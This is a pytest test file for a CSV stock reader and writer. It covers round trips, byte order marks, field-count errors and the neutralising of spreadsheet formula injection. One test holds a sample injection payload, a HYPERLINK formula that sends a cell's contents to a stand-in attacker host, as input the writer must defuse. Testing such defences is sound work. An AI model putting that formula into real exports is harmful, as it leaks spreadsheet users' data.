"""serial_csv: round trip, rows with the wrong field count, formulas neutralised."""

from pathlib import Path

import pytest
from serial_csv import read_stock, write_stock


def test_round_trip_keeps_commas_quotes_newlines_and_accents(tmp_path: Path) -> None:
    rows = [
        {"sku": "A-1", "name": 'Bolt, 6 mm "hex"', "quantity": "40"},
        {"sku": "B-2", "name": "Crème\nbrûlée tin", "quantity": "3"},
    ]
    path = tmp_path / "stock.csv"
    write_stock(path, rows)
    assert read_stock(path) == rows
    # newline="" lets the csv module write its own \r\n and keep the \n inside a field.
    assert path.read_bytes().count(b"\r\n") == 3  # noqa: PLR2004
    # Without the byte order mark, Excel shows "Crème" as "CrÃ¨me".
    assert path.read_bytes().startswith(b"\xef\xbb\xbfsku,")


def test_a_byte_order_mark_from_excel_is_not_part_of_the_header(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("sku,name,quantity\r\nA-1,Bolt,4\r\n".encode("utf-8-sig"))
    assert read_stock(path) == [{"sku": "A-1", "name": "Bolt", "quantity": "4"}]


@pytest.mark.parametrize(
    ("line", "found"),
    [("C-3,Nut,5,extra", 4), ("C-3,Nut", 2)],
)
def test_a_row_with_the_wrong_field_count_names_file_and_line(
    tmp_path: Path, line: str, found: int
) -> None:
    path = tmp_path / "stock.csv"
    path.write_text(f"sku,name,quantity\nA-1,Bolt,4\n{line}\n", encoding="utf-8")
    with pytest.raises(ValueError, match=rf"stock\.csv:3: expected 3 fields, got {found}$"):
        read_stock(path)


def test_a_wrong_header_is_an_error_on_line_1(tmp_path: Path) -> None:
    path = tmp_path / "stock.csv"
    path.write_text("sku;name;quantity\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"stock\.csv:1: expected header sku,name,quantity"):
        read_stock(path)


def test_cells_that_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    attack = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
    write_stock(path, [{"sku": "-2+3", "name": attack, "quantity": "@SUM(1)"}])
    row = read_stock(path)[0]
    assert row == {"sku": "'-2+3", "name": "'" + attack, "quantity": "'@SUM(1)"}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_every_formula_lead_is_neutralised_and_plain_text_is_left_alone(
    tmp_path: Path, lead: str
) -> None:
    path = tmp_path / "export.csv"
    # A comma inside the value must not start a new cell that begins with "=".
    write_stock(path, [{"sku": lead + "1+1", "name": "Nut,=1+1", "quantity": "4"}])
    assert read_stock(path) == [{"sku": "'" + lead + "1+1", "name": "Nut,=1+1", "quantity": "4"}]
